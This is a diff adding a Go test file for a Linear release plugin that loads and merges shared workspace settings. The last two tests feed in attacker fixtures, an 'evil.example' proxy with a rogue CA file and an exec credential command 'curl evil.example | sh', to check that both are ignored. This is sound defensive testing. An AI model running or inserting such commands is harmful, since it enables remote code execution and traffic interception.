@@ -0,0 +1,118 @@
+package main
+
+import (
+	"context"
+	"testing"
+)
+
+func TestParseWorkspaceSettings(t *testing.T) {
+	content := "# Release automation\n\nShared settings:\n\n```json\n{\"released_state\": \"Shipped\"}\n```\n"
+
+	settings, err := parseWorkspaceSettings(content)
+	if err != nil {
+		t.Fatalf("parseWorkspaceSettings() error = %v", err)
+	}
+	if settings["released_state"] != "Shipped" {
+		t.Errorf("expected released_state from the JSON block, got %v", settings)
+	}
+
+	if _, err := parseWorkspaceSettings("just prose"); err == nil {
+		t.Error("expected an error for content without settings")
+	}
+}
+
+func TestMergeDefaults(t *testing.T) {
+	raw := map[string]any{
+		"released_state": "Done",
+		"release_issue":  map[string]any{"title": "Ship {{.Version}}"},
+	}
+	defaults := map[string]any{
+		"released_state":   "Shipped",
+		"comment_template": "Shipped in {{.Version}}",
+		"release_issue":    map[string]any{"title": "Release", "labels": []any{"release", "ops"}},
+		"api_key":          "lin_api_workspace",
+	}
+
+	merged := mergeDefaults(raw, defaults)
+
+	if merged["released_state"] != "Done" {
+		t.Errorf("expected repository setting to win, got %v", merged["released_state"])
+	}
+	if merged["comment_template"] != "Shipped in {{.Version}}" {
+		t.Errorf("expected workspace default to fill the gap, got %v", merged["comment_template"])
+	}
+	block := merged["release_issue"].(map[string]any)
+	if block["title"] != "Ship {{.Version}}" || block["labels"] == nil {
+		t.Errorf("expected nested block to be merged, got %v", block)
+	}
+	if _, ok := merged["api_key"]; ok {
+		t.Error("expected api_key to be ignored in workspace config")
+	}
+}
+
+func TestLoadWorkspaceConfigFromIssue(t *testing.T) {
+	fake := newFakeLinear(t, map[string]func(map[string]any) any{
+		"GetIssue": issueHandler(map[string]map[string]any{
+			"OPS-1": {"id": "uuid-1", "identifier": "OPS-1", "description": `{"released_state": "Shipped"}`},
+		}),
+	})
+
+	p := &LinearPlugin{}
+	raw := map[string]any{"workspace_config": map[string]any{"issue": "OPS-1"}}
+	merged, err := loadWorkspaceConfig(context.Background(), fake.client().ReadOnly(), p.parseConfig(raw).WorkspaceConfig, raw)
+	if err != nil {
+		t.Fatalf("loadWorkspaceConfig() error = %v", err)
+	}
+
+	if cfg := p.parseConfig(merged); cfg.ReleasedState != "Shipped" {
+		t.Errorf("expected released state from workspace config, got %q", cfg.ReleasedState)
+	}
+}
+
+func TestLoadWorkspaceConfigFromDocument(t *testing.T) {
+	fake := newFakeLinear(t, map[string]func(map[string]any) any{
+		"GetDocument": func(map[string]any) any {
+			return map[string]any{"document": map[string]any{"id": "doc-1", "content": "```json\n{\"add_release_links\": true}\n```"}}
+		},
+	})
+
+	source := WorkspaceConfigSource{DocumentID: "doc-1"}
+	merged, err := loadWorkspaceConfig(context.Background(), fake.client().ReadOnly(), source, map[string]any{})
+	if err != nil {
+		t.Fatalf("loadWorkspaceConfig() error = %v", err)
+	}
+	if merged["add_release_links"] != true {
+		t.Errorf("expected settings from the document, got %v", merged)
+	}
+}
+
+func TestMergeDefaultsIgnoresRouting(t *testing.T) {
+	defaults := map[string]any{
+		"network":         map[string]any{"proxy_url": "http://proxy.evil.example:3128", "ca_file": "/tmp/evil.pem"},
+		"request_signing": map[string]any{"headers": map[string]any{"X-Gateway": "workspace"}},
+	}
+
+	merged := mergeDefaults(map[string]any{"network": map[string]any{"proxy_url": "http://proxy.corp:8080"}}, defaults)
+	cfg := (&LinearPlugin{}).parseConfig(merged)
+	if cfg.Network.ProxyURL != "http://proxy.corp:8080" || cfg.Network.CAFile != "" {
+		t.Errorf("expected the repository's network settings untouched, got %+v", cfg.Network)
+	}
+	if _, ok := merged["request_signing"]; ok {
+		t.Errorf("expected request_signing to be ignored in workspace config, got %v", merged["request_signing"])
+	}
+}
+
+func TestMergeDefaultsIgnoresCredentials(t *testing.T) {
+	raw := map[string]any{"api_key": "lin_api_repo"}
+	defaults := map[string]any{
+		"credentials": map[string]any{"provider": "exec", "command": []any{"sh", "-c", "curl evil.example | sh"}},
+	}
+
+	merged := mergeDefaults(raw, defaults)
+	if _, ok := merged["credentials"]; ok {
+		t.Fatalf("expected credentials to be ignored in workspace config, got %v", merged["credentials"])
+	}
+	if cfg := (&LinearPlugin{}).parseConfig(merged); cfg.Credentials.Provider != credentialStatic {
+		t.Errorf("Credentials.Provider = %q, want the repository's static key", cfg.Credentials.Provider)
+	}
+}